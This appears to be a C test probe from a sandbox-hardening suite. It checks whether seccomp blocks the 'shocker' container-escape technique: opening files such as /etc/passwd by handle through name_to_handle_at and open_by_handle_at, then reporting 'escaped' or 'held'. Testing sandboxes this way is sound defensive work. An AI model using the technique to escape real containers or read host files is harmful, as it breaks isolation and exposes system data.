// title: take a file handle, and open by handle what no path leads to
// wall: seccomp_calls
// source: the "shocker" exploit of 2014
#include "attack.h"

int
main(void)
{
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } h = { .handle = { .handle_bytes = 128 } };
    static const char *const paths[] = { "/", "/workspace", "/usr", "/usr/bin/env", "/etc/passwd" };
    int id;

    for (unsigned i = 0; i < sizeof(paths) / sizeof(*paths); i++) {
        h.handle.handle_bytes = 128;
        if (name_to_handle_at(AT_FDCWD, paths[i], &h.handle, &id, 0) == 0) {
            escaped("handle of %s, %d", paths[i], open_by_handle_at(AT_FDCWD, &h.handle, O_RDONLY));
        }
        if (open_by_handle_at(AT_FDCWD, &h.handle, O_RDONLY) >= 0) {
            escaped("opened by handle");
        }
    }
    held("%s", strerror(errno));
}
